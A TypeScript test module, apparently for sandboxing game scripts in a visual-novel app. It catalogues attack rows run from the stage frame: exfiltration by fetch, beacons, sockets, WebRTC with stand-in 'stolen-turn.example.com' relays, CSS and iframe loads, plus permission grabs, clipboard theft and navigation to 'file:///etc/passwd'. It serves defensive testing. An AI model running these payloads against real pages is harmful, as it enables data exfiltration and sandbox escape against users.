/**
 * Attacks of a game's script from the stage's frame. Each row is the body of an async function that receives `E` (the origin of
 * another program on this machine, on 127.0.0.1), `P` (its port), `A` (the origin of the app's page) and `later(work, ms)`.
 */
export interface StageAttack {
  name: string;
  code: string;
}

const row = (name: string, code: string): StageAttack => ({ name, code });

const element = (tag: string, attributes: Record<string, string>, where = 'body'): string =>
  `const element = document.createElement('${tag}');
   for (const [name, value] of ${JSON.stringify(Object.entries(attributes))}) element.setAttribute(name, value.replace('E/', E + '/'));
   document.${where}.append(element); return 'asked';`;

/** Returns an attack with a peer connection created by `make`, which tries UDP and a TCP relay. */
const peer = (make: string): string => `
  const window_ = await (async () => { ${make} })();
  const Peer = window_.RTCPeerConnection ?? window_.webkitRTCPeerConnection;
  if (!Peer) return 'refused';
  const connection = new Peer({ iceServers: [
    { urls: ['stun:127.0.0.1:' + P, 'stun:stolen-stun.example.com', 'turn:stolen-turn.example.com:443?transport=tcp'], username: 'x', credential: 'y' },
    { urls: ['turn:127.0.0.1:' + P + '?transport=tcp', 'turns:127.0.0.1:' + P + '?transport=tcp', 'turn:x.localhost:' + P + '?transport=tcp', 'turn:127.0.0.1:' + P], username: 'stolen', credential: 'words' } ] });
  connection.createDataChannel('x');
  const remote = 'v=0\\r\\no=- 1 1 IN IP4 0.0.0.0\\r\\ns=-\\r\\nt=0 0\\r\\na=group:BUNDLE 0\\r\\nm=application 9 UDP/DTLS/SCTP webrtc-datachannel\\r\\nc=IN IP4 0.0.0.0\\r\\na=mid:0\\r\\na=ice-ufrag:abcd\\r\\na=ice-pwd:abcdefghijklmnopqrstuvwxyz\\r\\na=fingerprint:sha-256 ' + Array(32).fill('AA').join(':') + '\\r\\na=setup:active\\r\\na=sctp-port:5000\\r\\n';
  await connection.setLocalDescription(await connection.createOffer());
  await connection.setRemoteDescription({ type: 'answer', sdp: remote });
  for (const line of ['candidate:1 1 tcp 1518280447 127.0.0.1 ' + P + ' typ host tcptype passive', 'candidate:2 1 udp 2122260223 127.0.0.1 ' + P + ' typ host']) await connection.addIceCandidate({ candidate: line, sdpMid: '0' }).catch(() => undefined);
  await new Promise((done) => setTimeout(done, 1500));
  connection.close();
  return 'made';`;

const childFrame = (attributes: string): string =>
  `const child = document.createElement('iframe'); ${attributes} document.body.append(child); await new Promise((done) => setTimeout(done, 100)); return child.contentWindow;`;

/** Attempts to send data out of the stage. */
export const TRAFFIC: readonly StageAttack[] = [
  row(
    'fetch keepalive',
    `return (await fetch(E + '/keepalive', { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true })).type;`,
  ),
  row(
    'request',
    `return later(new Promise((done) => { const request = new XMLHttpRequest(); request.open('POST', E + '/request'); request.onload = () => done('sent'); request.onerror = () => done('refused'); request.send('x'); }));`,
  ),
  row(
    'request that blocks',
    `const request = new XMLHttpRequest(); request.open('GET', E + '/sync', false); request.send(); return 'sent';`,
  ),
  row('beacon', `return navigator.sendBeacon(E + '/beacon', 'x') ? 'asked' : 'refused';`),
  row(
    'event source',
    `return later(new Promise((done) => { const source = new EventSource(E + '/events'); source.onopen = () => done('open'); source.onerror = () => done('refused'); }));`,
  ),
  row(
    'socket',
    `return later(new Promise((done) => { const socket = new WebSocket(E.replace('http', 'ws') + '/socket'); socket.onopen = () => done('open'); socket.onerror = () => done('refused'); }));`,
  ),
  row(
    'socket to this port by another name',
    `return later(new Promise((done) => { const socket = new WebSocket('ws://127.0.0.1:' + location.port + '/api/webgalsync'); socket.onopen = () => done('open'); socket.onerror = () => done('refused'); }));`,
  ),
  row(
    'socket stream',
    `if (!globalThis.WebSocketStream) return 'refused'; await new WebSocketStream(E.replace('http', 'ws') + '/stream').opened; return 'open';`,
  ),
  row(
    'transport',
    `if (!globalThis.WebTransport) return 'refused'; await new WebTransport('https://127.0.0.1:' + P + '/transport').ready; return 'open';`,
  ),
  row(
    'transport of a child frame',
    `const made = await (async () => { ${childFrame('')} })(); if (!made.WebTransport) return 'refused'; await new made.WebTransport('https://127.0.0.1:' + P + '/transport').ready; return 'open';`,
  ),
  row('picture', element('img', { src: 'E/picture', srcset: 'E/picture-set 1x' })),
  row('picture with attribution', element('img', { src: 'E/attribution', attributionsrc: 'E/attribution-source' })),
  row(
    'picture element',
    `document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="' + E + '/source"><img src="game/none.png"></picture>'); return 'asked';`,
  ),
  row('video', element('video', { src: 'E/video', poster: 'E/poster', preload: 'auto', autoplay: '' })),
  row(
    'track',
    `document.body.insertAdjacentHTML('beforeend', '<video src="game/none.mp4"><track default kind="captions" src="' + E + '/track"></video>'); return 'asked';`,
  ),
  row('sound', `const sound = new Audio(E + '/sound'); await sound.play(); return 'played';`),
  row('object', element('object', { data: 'E/object' })),
  row('embed', element('embed', { src: 'E/embed' })),
  row('input', element('input', { type: 'image', src: 'E/input' })),
  row('background attribute', `document.body.setAttribute('background', E + '/background'); return 'asked';`),
  row(
    'inline style',
    element('p', {
      style: 'background: url(E/style); list-style: url(E/list); cursor: url(E/cursor), auto; display: list-item',
    }),
  ),
  row(
    'style sheet',
    `document.head.insertAdjacentHTML('beforeend', '<style>@import "' + E + '/import"; @font-face { font-family: thief; src: url(' + E + '/font) } body { font-family: thief, serif; mask: url(' + E + '/mask); border-image: url(' + E + '/border) 1; filter: url(' + E + '/filter#x) }</style>'); return 'asked';`,
  ),
  row(
    'made style sheet',
    `const sheet = new CSSStyleSheet(); sheet.replaceSync('body::before { content: url(' + E + '/made-style) }'); document.adoptedStyleSheets.push(sheet); return 'asked';`,
  ),
  row('font', `await new FontFace('thief2', 'url(' + E + '/font-face)').load(); return 'loaded';`),
  ...[
    'prefetch',
    'preload',
    'modulepreload',
    'prerender',
    'preconnect',
    'dns-prefetch',
    'manifest',
    'icon',
    'apple-touch-icon',
    'stylesheet',
    'alternate stylesheet',
    'pingback',
    'compression-dictionary',
    'import',
    'next',
    'search',
  ].map((rel) =>
    row(`link ${rel}`, element('link', { rel, as: 'script', href: `E/link-${rel.replace(' ', '-')}` }, 'head')),
  ),
  row(
    'speculation rules',
    `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: [E + '/speculated', location.origin + '/?speculated'], eagerness: 'immediate' }], prerender: [{ source: 'list', urls: [E + '/prerendered', location.origin + '/?prerendered'], eagerness: 'immediate' }] }); document.head.append(rules); return 'asked';`,
  ),
  row(
    'drawn picture',
    `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + E + '/svg-image"/><use href="' + E + '/svg-use#x"/><filter id="f"><feImage href="' + E + '/svg-fe"/></filter><rect width="9" height="9" filter="url(#f)" fill="url(' + E + '/svg-fill#x)"/><a href="' + E + '/svg-a"><text>x</text></a></svg>'); return 'asked';`,
  ),
  row('foreign module', `return (await import(E + '/module.js')) && 'ran';`),
  row('module of data', `return (await import('data:text/javascript,export default 1')) && 'ran';`),
  row(
    'module of a blob',
    `return (await import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' })))) && 'ran';`,
  ),
  row('foreign script', element('script', { src: 'E/script.js' })),
  row(
    'inline script',
    `globalThis.__inline = false; const script = document.createElement('script'); script.textContent = 'globalThis.__inline = true'; document.head.append(script); return globalThis.__inline ? 'ran' : 'refused';`,
  ),
  row(
    'ping',
    `const link = document.createElement('a'); link.href = '#x'; link.setAttribute('ping', E + '/ping'); document.body.append(link); link.click(); return 'asked';`,
  ),
  row('new window', `return open(E + '/window') ? 'opened' : 'refused';`),
  row(
    'new window of a link',
    `const link = document.createElement('a'); link.href = E + '/blank'; link.target = '_blank'; link.rel = 'opener'; document.body.append(link); link.click(); return 'asked';`,
  ),
  row(
    'form in a new window',
    `const form = document.createElement('form'); form.action = E + '/form-blank'; form.target = '_blank'; document.body.append(form); form.submit(); return 'asked';`,
  ),
  row(
    'form at the top',
    `const form = document.createElement('form'); form.action = E + '/form-top'; form.target = '_top'; document.body.append(form); form.submit(); return 'asked';`,
  ),
  row(
    'form in the parent',
    `const form = document.createElement('form'); form.action = E + '/form-parent'; form.target = '_parent'; form.method = 'post'; document.body.append(form); form.requestSubmit(); return 'asked';`,
  ),
  row(
    'link at the top',
    `const link = document.createElement('a'); link.href = E + '/link-top'; link.target = '_top'; document.body.append(link); link.click(); return 'asked';`,
  ),
  row('top', `top.location = E + '/top'; return 'asked';`),
  row('parent', `parent.location.replace(E + '/parent'); return 'asked';`),
  row('script address at the top', `top.location = 'javascript:fetch("' + E + '/top-script")'; return 'asked';`),
  row('frame', element('iframe', { src: 'E/frame' })),
  row(
    'frame of data',
    element('iframe', { src: "data:text/html,<img src='E/data-frame'><script>fetch('E/data-frame-script')</script>" }),
  ),
  row(
    'frame of a blob',
    `const child = document.createElement('iframe'); child.src = URL.createObjectURL(new Blob(['<script>fetch("' + E + '/blob-frame")</script><img src="' + E + '/blob-frame-image">'], { type: 'text/html' })); document.body.append(child); return 'asked';`,
  ),
  row(
    'frame of text',
    `const child = document.createElement('iframe'); child.srcdoc = '<script>fetch("' + E + '/srcdoc")</script><img src="' + E + '/srcdoc-image"><meta http-equiv="refresh" content="0;url=' + E + '/srcdoc-refresh"><link rel=stylesheet href="' + E + '/srcdoc-style">'; document.body.append(child); return 'asked';`,
  ),
  row(
    'frame of a script',
    `const child = document.createElement('iframe'); child.src = 'javascript:"<img src=' + E + '/script-frame>"'; document.body.append(child); return 'asked';`,
  ),
  row(
    'blank frame',
    `const child = await (async () => { ${childFrame('')} })(); child.fetch(E + '/blank-fetch').catch(() => {}); child.document.write('<img src="' + E + '/blank-image"><script src="' + E + '/blank-script"></' + 'script>'); child.eval('location.href = "' + E + '/blank-self"'); return 'asked';`,
  ),
  row(
    'frame that asks for another policy',
    element('iframe', {
      src: '/',
      csp: 'default-src *',
      allow: '*',
      sandbox: 'allow-scripts allow-same-origin allow-top-navigation allow-popups allow-modals',
    }),
  ),
  row(
    'fenced frame',
    `if (!globalThis.HTMLFencedFrameElement) return 'refused'; const child = document.createElement('fencedframe'); child.config = new FencedFrameConfig(E + '/fenced'); document.body.append(child); return 'asked';`,
  ),
  row(
    'policy of its own',
    element('meta', { 'http-equiv': 'Content-Security-Policy', content: 'default-src *; report-uri E/report' }, 'head'),
  ),
  row('foreign base', element('base', { href: 'E/base/' }, 'head')),
  row(
    'payment',
    `if (!globalThis.PaymentRequest) return 'refused'; const payment = new PaymentRequest([{ supportedMethods: E + '/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }); return (await later(payment.canMakePayment())) ? 'can' : 'refused';`,
  ),
  row(
    'federated login',
    `if (!globalThis.IdentityCredential) return 'refused'; await later(navigator.credentials.get({ identity: { providers: [{ configURL: E + '/login.json', clientId: 'x' }] } })); return 'given';`,
  ),
  row(
    'media artwork',
    `navigator.mediaSession.metadata = new MediaMetadata({ title: 'x', artwork: [{ src: E + '/artwork', sizes: '96x96', type: 'image/png' }] }); navigator.mediaSession.playbackState = 'playing'; return 'asked';`,
  ),
  row(
    'shared storage',
    `if (!globalThis.sharedStorage) return 'refused'; await sharedStorage.worklet.addModule(E + '/shared.js'); return 'ran';`,
  ),
  row(
    'auction',
    `if (!navigator.joinAdInterestGroup) return 'refused'; await later(navigator.joinAdInterestGroup({ owner: location.origin, name: 'x', biddingLogicURL: location.origin + '/lib/sw.js' }, 60)); return 'joined';`,
  ),
  row('topics', `if (!document.browsingTopics) return 'refused'; await document.browsingTopics(); return 'given';`),
  row(
    'drawn by a transformation',
    `const transform = new XSLTProcessor(); transform.importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><out><xsl:value-of select="document(\\'' + E + '/transform\\')"/></out></xsl:template></xsl:stylesheet>', 'text/xml')); transform.transformToFragment(document, document); return 'asked';`,
  ),
  row(
    'call of the app',
    `return 'status ' + (await fetch(A + '/call/app.info', { method: 'POST', body: '{}', mode: 'no-cors', credentials: 'include' })).status;`,
  ),
  row('page of the app', `return 'status ' + (await fetch(A + '/', { mode: 'no-cors' })).status;`),
  row('connection between pages', peer('return window;')),
  row('connection from a blank frame', peer(childFrame(''))),
  row(
    'connection from a frame at once',
    peer(`const child = document.createElement('iframe'); document.body.append(child); return child.contentWindow;`),
  ),
  row(
    'connection from a numbered frame at once',
    peer(`document.body.insertAdjacentHTML('beforeend', '<iframe name="fresh"></iframe>'); return window[length - 1];`),
  ),
  row('connection from a frame of text', peer(childFrame(`child.srcdoc = '<p>x';`))),
  row('connection from a frame of a script', peer(childFrame(`child.src = 'javascript:"<p>x"';`))),
  row(
    'connection from an object',
    peer(
      `const child = document.createElement('object'); child.type = 'text/html'; child.data = 'about:blank'; document.body.append(child); await new Promise((done) => setTimeout(done, 100)); return child.contentWindow ?? {};`,
    ),
  ),
  row(
    'connection from a nested frame',
    peer(
      `const outer = document.createElement('iframe'); document.body.append(outer); const child = outer.contentDocument.createElement('iframe'); outer.contentDocument.body.append(child); return child.contentWindow;`,
    ),
  ),
  row(
    'connection from a reopened document',
    peer(
      `const child = document.createElement('iframe'); document.body.append(child); child.contentDocument.open(); child.contentDocument.write('<p>x'); child.contentDocument.close(); return child.contentWindow;`,
    ),
  ),
  row(
    'connection by an old constructor',
    peer(
      `const child = document.createElement('iframe'); document.body.append(child); const kept = child.contentWindow; return { RTCPeerConnection: kept.RTCPeerConnection ?? kept.eval('typeof RTCPeerConnection === "undefined" ? undefined : RTCPeerConnection') };`,
    ),
  ),
];

/** Runs the game's own scripts in a frame of text, which has this policy and, if sandboxed, a process of its own. */
const inFrame = (sandbox: string | null) =>
  `const child = document.createElement('iframe'); const files = [...document.scripts].map(({ src }) => src).filter(Boolean); child.srcdoc = files.map((src) => '<script src="' + src + '"></' + 'script>').join(''); ${sandbox === null ? '' : `child.setAttribute('sandbox', '${sandbox}');`} const ran = new Promise((done) => addEventListener('message', ({ source, data }) => { if (source === child.contentWindow && data === 'ran') done('ran'); })); document.body.append(child); return later(ran, 2000);`;

/** Attempts to start workers and worklets, and scripts in frames. */
export const WORKERS: readonly StageAttack[] = [
  row('script in a frame of text', inFrame(null)),
  row('script in a sandboxed frame', inFrame('allow-scripts')),
  row('service worker', `await navigator.serviceWorker.register('./lib/sw.js'); return 'runs';`),
  row(
    'service worker of the engine',
    `await navigator.serviceWorker.register('./webgal-serviceworker.js'); return 'runs';`,
  ),
  row(
    'service worker of a child frame',
    `const child = await (async () => { ${childFrame('')} })(); await child.navigator.serviceWorker.register(location.origin + '/lib/sw.js', { scope: location.origin + '/lib/' }); return 'runs';`,
  ),
  ...['./lib/sw.js', 'blob', 'data:text/javascript,postMessage(1)', './webgal-serviceworker.js'].flatMap((source) => {
    const at =
      source === 'blob'
        ? `URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))`
        : `'${source}'`;
    return [
      row(
        `worker ${source}`,
        `return later(new Promise((done) => { const worker = new Worker(${at}); worker.onmessage = () => done('runs'); worker.onerror = () => done('refused'); }));`,
      ),
      row(
        `module worker ${source}`,
        `return later(new Promise((done) => { const worker = new Worker(${at}, { type: 'module' }); worker.onmessage = () => done('runs'); worker.onerror = () => done('refused'); }));`,
      ),
      row(
        `shared worker ${source}`,
        `return later(new Promise((done) => { const worker = new SharedWorker(${at}); worker.onerror = () => done('refused'); worker.port.onmessage = () => done('runs'); worker.port.start(); }));`,
      ),
    ];
  }),
  ...['./lib/worklet.js', 'blob', 'data:text/javascript,1', './assets/none.js'].flatMap((source) => {
    const at = source === 'blob' ? `URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))` : `'${source}'`;
    return [
      row(`audio worklet ${source}`, `await later(new AudioContext().audioWorklet.addModule(${at})); return 'runs';`),
      row(
        `offline audio worklet ${source}`,
        `await later(new OfflineAudioContext(1, 100, 44100).audioWorklet.addModule(${at})); return 'runs';`,
      ),
      row(
        `audio worklet of a child frame ${source}`,
        `const child = document.createElement('iframe'); document.body.append(child); await later(new child.contentWindow.AudioContext().audioWorklet.addModule(${source.startsWith('.') ? `new URL(${at}, location.href).href` : at})); return 'runs';`,
      ),
      row(`paint worklet ${source}`, `await later(CSS.paintWorklet.addModule(${at})); return 'runs';`),
      row(`layout worklet ${source}`, `await later(CSS.layoutWorklet.addModule(${at})); return 'runs';`),
      row(`animation worklet ${source}`, `await later(CSS.animationWorklet.addModule(${at})); return 'runs';`),
    ];
  }),
];

/** Features that need a permission or a user activation. */
export const POWERS: readonly StageAttack[] = [
  // Without an input field: in a browser, `select` takes the focus and the app would stop the game.
  ...['copy', 'cut', 'paste'].flatMap((command) =>
    [
      ['by command', 'return document;'],
      [
        'by command of a child frame',
        `const child = document.createElement('iframe'); document.body.append(child); return child.contentDocument;`,
      ],
    ].map(([where, make]) =>
      row(
        `${command} ${where}`,
        `const made = (() => { ${make} })(); const field = made.createElement('textarea'); made.body.append(field); field.value = 'STOLEN'; if (!A.startsWith('http')) field.select(); else made.getSelection().selectAllChildren(made.body); return made.execCommand('${command}') ? 'done' : 'refused';`,
      ),
    ),
  ),
  row(
    'geolocation',
    `return later(new Promise((done) => navigator.geolocation.getCurrentPosition(() => done('granted'), () => done('refused'))));`,
  ),
  row('notification', `return (await later(Notification.requestPermission())) === 'granted' ? 'granted' : 'refused';`),
  row('microphone', `await later(navigator.mediaDevices.getUserMedia({ audio: true })); return 'granted';`),
  row('camera', `await later(navigator.mediaDevices.getUserMedia({ video: true })); return 'granted';`),
  row('screen', `await later(navigator.mediaDevices.getDisplayMedia({ video: true })); return 'granted';`),
  row('clipboard read', `return 'read ' + (await later(navigator.clipboard.readText()));`),
  row('clipboard items', `return 'read ' + (await later(navigator.clipboard.read()));`),
  row('clipboard write', `await later(navigator.clipboard.writeText('STOLEN')); return 'written';`),
  row('midi', `await later(navigator.requestMIDIAccess({ sysex: true })); return 'granted';`),
  row('midi without messages of the system', `await later(navigator.requestMIDIAccess()); return 'granted';`),
  row('usb', `await later(navigator.usb.requestDevice({ filters: [] })); return 'granted';`),
  row('serial', `await later(navigator.serial.requestPort()); return 'granted';`),
  row('hid', `await later(navigator.hid.requestDevice({ filters: [] })); return 'granted';`),
  row(
    'known devices',
    `const all = await later(Promise.all([navigator.usb?.getDevices(), navigator.hid?.getDevices(), navigator.serial?.getPorts()].map((each) => each ?? []))); return all.flat().length ? 'granted' : 'refused';`,
  ),
  row('bluetooth', `await later(navigator.bluetooth.requestDevice({ acceptAllDevices: true })); return 'granted';`),
  row('wake lock', `await later(navigator.wakeLock.request()); return 'granted';`),
  row(
    'idle detection',
    `return (await later(IdleDetector.requestPermission())) === 'granted' ? 'granted' : 'refused';`,
  ),
  row('local fonts', `return (await later(queryLocalFonts())).length ? 'granted' : 'refused';`),
  row('screens', `await later(getScreenDetails()); return 'granted';`),
  row('open a file', `await later(showOpenFilePicker()); return 'granted';`),
  row('save a file', `await later(showSaveFilePicker()); return 'granted';`),
  row('open a folder', `await later(showDirectoryPicker()); return 'granted';`),
  row('persistent storage', `return (await later(navigator.storage.persist())) ? 'granted' : 'refused';`),
  row('storage access', `await later(document.requestStorageAccess()); return (document.cookie = 'x=1', 'granted');`),
  row(
    'storage access for all',
    `const handle = await later(document.requestStorageAccess({ all: true })); return handle ? 'granted' : 'refused';`,
  ),
  row('keyboard lock', `await later(navigator.keyboard.lock()); return 'granted';`),
  row('keyboard layout', `return (await later(navigator.keyboard.getLayoutMap())).size ? 'granted' : 'refused';`),
  row(
    'pointer lock',
    `return later(new Promise((done, fail) => { document.addEventListener('pointerlockchange', () => done('granted')); document.addEventListener('pointerlockerror', () => done('refused')); document.body.requestPointerLock()?.catch?.(fail); }));`,
  ),
  row(
    'full screen',
    `await later(document.documentElement.requestFullscreen({ keyboardLock: 'browser' })); document.exitFullscreen(); return 'granted';`,
  ),
  row(
    'picture in picture',
    `const video = document.createElement('video'); const canvas = document.createElement('canvas'); canvas.getContext('2d'); video.srcObject = canvas.captureStream(); video.muted = true; await later(video.play()); await later(video.requestPictureInPicture()); return 'granted';`,
  ),
  row('document picture in picture', `await later(documentPictureInPicture.requestWindow()); return 'granted';`),
  row('eye dropper', `await later(new EyeDropper().open()); return 'granted';`),
  row('share', `await later(navigator.share({ text: 'x' })); return 'granted';`),
  row('protocol handler', `navigator.registerProtocolHandler('web+thief', location.origin + '/?%s'); return 'asked';`),
  row(
    'credentials',
    `await later(navigator.credentials.create({ publicKey: { challenge: new Uint8Array(16), rp: { name: 'x' }, user: { id: new Uint8Array(16), name: 'x', displayName: 'x' }, pubKeyCredParams: [{ type: 'public-key', alg: -7 }] } })); return 'granted';`,
  ),
  row('password', `return (await later(navigator.credentials.get({ password: true }))) ? 'granted' : 'refused';`),
  row(
    'push',
    `return navigator.permissions.query({ name: 'push', userVisibleOnly: true }).then(({ state }) => (state === 'granted' ? 'granted' : 'refused'));`,
  ),
  row(
    'sensors',
    `return later(new Promise((done) => { const sensor = new Accelerometer(); sensor.onreading = () => done('granted'); sensor.onerror = () => done('refused'); sensor.start(); }));`,
  ),
  row(
    'alert',
    `const before = performance.now(); alert('x'); return performance.now() - before > 300 ? 'shown' : 'refused';`,
  ),
  row('confirm', `return confirm('x') ? 'shown' : 'refused';`),
  row('prompt', `return prompt('Your key?') === null ? 'refused' : 'shown';`),
  row('print', `print(); return 'asked';`),
  row(
    'wire',
    `return typeof globalThis.appWire + typeof globalThis.require + typeof globalThis.process === 'undefinedundefinedundefined' ? 'refused' : 'there';`,
  ),
  row(
    'wire of a child frame',
    `const child = document.createElement('iframe'); document.body.append(child); const made = child.contentWindow; return typeof made.appWire + typeof made.require + typeof made.process === 'undefinedundefinedundefined' ? 'refused' : 'there';`,
  ),
  row(
    'names of the page',
    `const found = []; for (const name of ['document', 'localStorage', 'appWire', 'name', 'origin']) { try { void parent[name].toString(); found.push(name); } catch {} } return found.length ? found.join() : 'refused';`,
  ),
  row('opener', `return opener === null && top.opener === null ? 'refused' : 'there';`),
  row('memory of the page', `await later(performance.measureUserAgentSpecificMemory()); return 'measured';`),
  row('shared memory', `return crossOriginIsolated || typeof SharedArrayBuffer !== 'undefined' ? 'there' : 'refused';`),
  row(
    'domain of all stages',
    `document.domain = 'localhost'; return document.domain === 'localhost' && !originAgentCluster ? 'joined' : 'refused';`,
  ),
  row(
    'cookie of all stages',
    `document.cookie = 'shared=1; domain=localhost; path=/'; document.cookie = 'shared2=1; domain=.localhost; path=/'; return (await (await fetch('/game/config.txt')).text()) && document.cookie.includes('shared') ? 'set' : 'refused';`,
  ),
];

/** Navigations of the frame. Each replaces the stage, so only one can run per page. */
export const DEPARTURES: readonly StageAttack[] = [
  row('its address', `location.href = E + '/self';`),
  row(
    'a link',
    `const link = document.createElement('a'); link.href = E + '/link-self'; document.body.append(link); link.click();`,
  ),
  row(
    'a form',
    `const form = document.createElement('form'); form.action = E + '/form-self'; form.method = 'post'; document.body.append(form); form.submit();`,
  ),
  row(
    'a refresh',
    `document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=' + E + '/refresh">');`,
  ),
  row(
    'a page of a blob',
    `location.href = URL.createObjectURL(new Blob(['<script>fetch("' + E + '/blob-self")</script><img src="' + E + '/blob-self-image">'], { type: 'text/html' }));`,
  ),
  row('a page of data', `location.href = 'data:text/html,<img src=' + E + '/data-self>';`),
  row('the page of the app', `location.href = A + '/';`),
  row('a file', `location.href = 'file:///etc/passwd';`),
  row(
    'a flood of history',
    `for (let count = 0; count < 500; count += 1) history.pushState(count, '', '?' + count); window.name = 'thief'; history.go(-400); location.href = E + '/after-flood';`,
  ),
  row('another name of this server', `location.href = 'http://127.0.0.1:' + location.port + '/game/config.txt';`),
  row('a script', `location.href = 'javascript:"<img src=' + E + '/script-self>"';`),
];

/**
 * Returns a game's script with `__attempt(name, E, A)`, which resolves to the row's result, or to `refused: …` for an exception
 * or a timeout. The engine does not render meanwhile, so that rows do not wait for it.
 */
export function toAttackScript(rows: readonly StageAttack[]): string {
  const functions = rows.map(({ name, code }) => `${JSON.stringify(name)}: async (E, P, A, later) => {${code}}`);
  return `
    if (location.protocol === 'about:') parent.postMessage('ran', '*');
    globalThis.requestAnimationFrame = () => 0;
    const later = (work, ms) => Promise.race([work, new Promise((done, fail) => setTimeout(() => fail(new Error('silence')), ms ?? 4000))]);
    const rows = {${functions.join(',\n')}};
    globalThis.__attempt = async (name, E, A) => {
      try { return String(await later(rows[name](E, new URL(E).port, A, later), 6000)); } catch (error) { return 'refused: ' + error.message; }
    };`;
}
